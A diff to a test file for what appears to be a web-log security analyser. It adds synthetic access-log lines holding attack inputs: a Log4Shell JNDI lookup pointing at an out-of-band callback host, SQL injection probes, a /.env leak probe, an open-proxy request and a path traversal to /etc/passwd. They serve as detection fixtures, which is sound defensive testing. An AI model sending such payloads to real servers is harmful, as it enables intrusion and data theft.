@@ -75,6 +75,7 @@ ODD = [
     b'6.6.6.6 - - [01/Mar/2024:10:00:00 +0000] "GET /../../etc/passwd HTTP/1.1" 404 1 "-" "sqlmap/1.8" 0.1',
     b'6.6.6.6 - - [01/Mar/2024:10:00:00 +0000] "POST /login HTTP/1.1" 401 1 "-" "Nikto" 0.1',
     b'6.6.6.6 - - [01/Mar/2024:10:00:00 +0000] "POST /wp-login.php HTTP/1.1" 403 1 "-" "x" 0.1',
+    b'6.6.6.8 - - [01/Mar/2024:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "${jndi:ldap://x.oast.fun/a}" "Mozilla/5.0" 0.1',
     # form logins: a failure shows the form again (200), a success redirects (302)
     b'6.6.6.7 - - [01/Mar/2024:10:00:00 +0000] "POST /wp-login.php?redirect_to=%2F HTTP/1.1" 200 1 "-" "x" 0.1',
     b'6.6.6.7 - - [01/Mar/2024:10:00:00 +0000] "POST /admin/login/?next=/admin/ HTTP/1.1" 200 1 "-" "x" 0.1',
@@ -635,3 +636,50 @@ def test_list_elements_taken_from_the_values_equal_list_element() -> None:
     for i in range(3):
         assert sc._element(rows, i, 3).to_pylist() == pc.list_element(rows, i).to_pylist()
     assert sc._element(rows, 2, 3).to_pylist() == [b"c", None, b"h", None]
+
+
+def catch_all_traffic(env_size: int) -> bytes:
+    """A single-page app's routes (all its index.html, 1,870 bytes; no GET / among them), a scanner's /.env (answered
+    ``env_size`` bytes) and SQL injection answered 200 with the app's page, and absolute request lines: for the
+    site's own host (its pages' referers name it) and for a proxy judge."""
+
+    def line(ip: str, minute: int, request: str, status: int, size: int, referer: str = "-") -> bytes:
+        return (f'{ip} - - [01/Mar/2024:10:{minute:02d}:00 +0000] "{request}" {status} {size} "{referer}" '
+                f'"Mozilla/5.0" 0.010').encode()
+
+    routes = ["/pricing", "/login", "/docs/getting-started", "/account/settings", "/blog/hello-world"]
+    out = [line(f"10.0.0.{k}", k, f"GET {r} HTTP/1.1", 200, 1870, "https://app.example.net/")
+           for k, r in enumerate(routes * 2)]
+    out += [line("10.0.0.1", 11, "GET /api/items?page=2 HTTP/1.1", 200, 4211),
+            line("10.0.0.1", 11, "GET /api/items?page=3 HTTP/1.1", 200, 3990),
+            line("198.51.100.7", 12, "GET /.env HTTP/1.1", 200, env_size),
+            line("198.51.100.7", 12, "GET /pricing?id=1%27%20or%201=1-- HTTP/1.1", 200, 1870),
+            line("198.51.100.7", 12, "GET /api/items?id=1%27%20or%201=1-- HTTP/1.1", 200, 512),
+            line("198.51.100.8", 13, "GET http://proxy-judge.example/azenv.php HTTP/1.1", 200, 1870),
+            line("192.0.2.4", 14, "GET http://app.example.net/pricing HTTP/1.1", 200, 1870)]
+    return b"\n".join(out) + b"\n"
+
+
+@pytest.mark.parametrize("env_size", [1870, 1432])
+def test_a_catch_all_is_known_by_its_routes_and_absolute_lines_by_the_sites_hosts(env_size: int) -> None:
+    """Five routes answered 2xx with one size, and no other, are a catch-all's page: a /.env of that size is no
+    leak and an attack answered with it is no 2xx worth a warning (an attack answered with another size is); a
+    /.env of another size is a leak.  An absolute request line is an open-proxy probe unless it names a host of
+    the site's referers.  The same on every scan path."""
+    rep, _ = assert_equivalent(catch_all_traffic(env_size), chunk=700)
+    sec = rep["security"]
+    assert 1870 in sec["catch_all_sizes"] and 4211 not in sec["catch_all_sizes"]
+    assert [e["path"] for e in sec["exposed"]] == ([] if env_size == 1870 else ["/.env"])
+    attacks = {a["category"]: a for a in sec["attacks"]}
+    assert set(attacks) == {"sql_injection", "open_proxy", "scanner_probe"}
+    assert attacks["scanner_probe"]["ok"] == (0 if env_size == 1870 else 1)  # /.env
+    assert (attacks["sql_injection"]["hits"], attacks["sql_injection"]["ok"]) == (2, 1)  # /api/items's 512 bytes
+    assert attacks["open_proxy"]["hits"] == 1
+    # the site's names given: its own host by name, any other is a probe
+    acc = Accumulator(ScanOptions(log_format=COMBINED_TIMED, arrow_min_buffer=0))
+    feed_in_chunks(acc, catch_all_traffic(env_size), 1 << 20)
+    named = summarize(acc.partial(), server_names=["*.example.org", "app.example.net"])["security"]
+    (proxy,) = [a for a in named["attacks"] if a["category"] == "open_proxy"]
+    assert (proxy["hits"], proxy["samples"]) == (1, ["GET http://proxy-judge.example/azenv.php HTTP/1.1"])
+    other = summarize(acc.partial(), server_names=["example.org"])["security"]
+    assert {a["category"]: a["hits"] for a in other["attacks"]}["open_proxy"] == 2
